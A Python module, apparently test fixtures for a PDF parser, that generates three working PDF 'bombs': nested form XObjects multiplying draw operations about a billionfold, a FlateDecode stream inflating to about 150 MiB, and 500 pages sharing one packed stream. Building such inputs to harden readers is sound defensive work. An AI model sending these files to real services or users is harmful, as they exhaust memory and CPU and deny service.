"""Bodies that attack whoever reads them, each of a kind that was seen or that readers fear."""

import zlib
from collections.abc import Iterable

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Font<</F <</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
_SENTENCE = b"BT /F 9 Tf (We keep your data.) Tj ET "


def pdf_of(objects: Iterable[bytes]) -> bytes:
    """Return a PDF of one page; its objects are numbered from 1."""
    written = bytearray(b"%PDF-1.7\n")
    places: list[int] = []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    written += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, table)
    return bytes(written)


def _page(resources: bytes) -> bytes:
    start = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources"
    return start + resources + b">>"


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def forms_in_forms(depth: int = 9, times: int = 10) -> bytes:
    """Return a PDF whose page draws a form that draws the next one ten times, and so on."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources"
    inner = [
        _stream(b"/F Do " * times, form + b"<</XObject<</F %d 0 R>>>>" % (number + 6))
        for number in range(depth)
    ]
    last = _stream(_SENTENCE, form + _FONT)
    page = _page(b"<</XObject<</F 5 0 R>>>>")
    return pdf_of([_CATALOG, _PAGES, page, _stream(b"/F Do"), *inner, last])


def inflated_text(mebibytes: int = 150) -> bytes:
    """Return a PDF of which each kilobyte unpacks to more than 300 of text."""
    content = zlib.compress(_SENTENCE * (mebibytes * 27_000), 9)
    packed = _stream(content, b"/Filter/FlateDecode")
    return pdf_of([_CATALOG, _PAGES, _page(_FONT), packed])


def pages_without_end(pages: int = 500) -> bytes:
    """Return a PDF of many pages that all show the same packed stream of text."""
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(pages))
    listed = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages)
    packed = _stream(zlib.compress(_SENTENCE * 20_000, 9), b"/Filter/FlateDecode")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources%s>>" % _FONT
    return pdf_of([_CATALOG, listed, packed, *[page] * pages])


PDF_BOMBS = {
    "forms-in-forms": forms_in_forms,
    "inflated-text": inflated_text,
    "pages-without-end": pages_without_end,
}
